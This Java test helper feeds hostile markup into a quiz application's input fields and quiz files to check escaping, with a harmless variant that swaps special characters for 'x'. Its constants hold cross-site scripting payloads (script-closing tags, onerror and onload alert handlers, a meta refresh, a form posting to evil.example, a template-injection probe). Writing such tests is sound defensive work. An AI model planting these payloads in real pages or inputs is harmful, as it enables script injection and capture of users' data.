package org.framewise.journeys;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;
import tools.jackson.dataformat.yaml.YAMLMapper;

/** Texts for every input field: hostile ones, or harmless ones with a letter in place of each special character. */
record EnteredTexts(UnaryOperator<String> as) {
    /**
     * Closes, hides or breaks a script and then adds its own markup; also contains the tags that end other kinds of
     * text in HTML. No word is too long for a phone.
     */
    private static final String MARKUP = "</script><!--<script>]]>\u2028 </title></textarea></style></noscript> "
            + "<meta http-equiv=refresh content=\"0;url=privacy\"> <form action=//evil.example> <input name=q> "
            + "<svg><script>alert(1)</script></svg> <img src=x onerror=alert(1)> &lt;b&gt;&#60;i>\u2029${7*7}\\u003Cu>'\"`";

    private static final String SHORT_MARKUP = "</script><!--<script><form>]]>";

    static final EnteredTexts HOSTILE = new EnteredTexts(UnaryOperator.identity());
    static final EnteredTexts HARMLESS = new EnteredTexts(EnteredTexts::harmless);

    /**
     * Keys of quiz files whose values are free text. The other values are ids and types, which the schema restricts to
     * letters, digits and hyphens.
     */
    private static final Set<String> WORDS = Set.of(
            "title",
            "summary",
            "outlet",
            "label",
            "author",
            "headline",
            "dating",
            "lead",
            "text",
            "rationale",
            "descriptor",
            "sample",
            "note",
            "stem",
            "explanation");

    /** Keys of quiz files whose values have a short length limit. */
    private static final Set<String> SHORT = Set.of("title", "outlet", "label", "author");

    private static final Path QUIZZES = Path.of("src/test/resources/org/framewise/loading");
    private static final YAMLMapper YAML = new YAMLMapper();

    /** Returns a text of the same length, with the letter x in place of each special character. */
    static String harmless(String text) {
        return text.codePoints()
                .map(c -> Character.isLetterOrDigit(c) || c == ' ' ? c : 'x')
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    /** @param name a prefix that identifies the text */
    String text(String name) {
        return name + as.apply(MARKUP);
    }

    /** Returns texts for names: at most 40 characters, no line separators. */
    List<String> names() {
        return Stream.of(
                        "</script><b>x</b>",
                        "<!--<script>alert(1)",
                        "<meta http-equiv=refresh content=0>",
                        "]]>'\"&amp<svg onload=alert(1)>")
                .map(as)
                .map(name -> "Nn" + name)
                .toList();
    }

    String name(String name) {
        return name + as.apply(SHORT_MARKUP);
    }

    /** URL path segments, with the slashes between them. Line separators and semicolons are rejected before they reach a page. */
    String segment() {
        return String.join("/", as.apply("<"), as.apply("script><h1>x<"), as.apply("h1><!--<script>]]>'\"&amp"));
    }

    String fileName() {
        return as.apply("Ff<!--<script>'\"&amp;") + ".yaml";
    }

    /** A file that can't be read, with a message that quotes it. */
    String brokenFile() {
        return "format: 1\nid: \"" + as.apply("Ff </script><!--<script>") + "\"\nitems: " + as.apply("<!--<script>")
                + "\n";
    }

    /** Returns a quiz from a test file, with the text appended to every value that is shown. */
    String quiz(String file, String id) {
        try {
            ObjectNode quiz = (ObjectNode) YAML.readTree(Files.readString(QUIZZES.resolve(file)));
            fill(quiz);
            quiz.put("id", id);
            return YAML.writeValueAsString(quiz);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void fill(ObjectNode part) {
        if (part.has("categories")) {
            nameCategories(part);
        }
        for (String key : part.propertyNames().stream().collect(Collectors.toSet())) {
            JsonNode value = part.get(key);
            switch (value) {
                case StringNode words
                when WORDS.contains(key) && !isQuoted(part, key) ->
                    part.put(key, words.asString() + (SHORT.contains(key) ? name(" Qq") : text(" Qq")));
                case ArrayNode evidence when key.equals("evidence") -> {}
                case ArrayNode parts
                when key.equals("segments") -> {
                    parts.valueStream().map(ObjectNode.class::cast).forEach(this::fillSegment);
                    ObjectNode last = (ObjectNode) parts.get(parts.size() - 1);
                    last.put("text", last.get("text").asString() + text(" Qq"));
                }
                case ArrayNode parts ->
                    parts.valueStream()
                            .filter(ObjectNode.class::isInstance)
                            .map(ObjectNode.class::cast)
                            .forEach(this::fill);
                case ObjectNode inner -> fill(inner);
                default -> {}
            }
        }
    }

    /**
     * Gives the item its own categories, so that its statements' keys contain the text too. Such an item can't count
     * for discernment.
     */
    private void nameCategories(ObjectNode item) {
        item.remove("counts_for_discernment");
        ArrayNode named = item.arrayNode();
        item.get("categories")
                .valueStream()
                .map(category -> name(category.asString()))
                .forEach(named::add);
        item.set("categories", named);
        item.get("statements")
                .valueStream()
                .map(ObjectNode.class::cast)
                .forEach(statement ->
                        statement.put("key", name(statement.get("key").asString())));
    }

    /** Appends the text only to the rationale, because the texts of segments must add up to their passage. */
    private void fillSegment(ObjectNode segment) {
        if (segment.has("rationale")) {
            segment.put("rationale", segment.get("rationale").asString() + text(" Qq"));
        }
    }

    /** A choice that quotes a source must match the source verbatim. */
    private static boolean isQuoted(ObjectNode part, String key) {
        return key.equals("text") && part.has("source") && part.has("rationale") && part.has("id") && !part.has("key");
    }
}
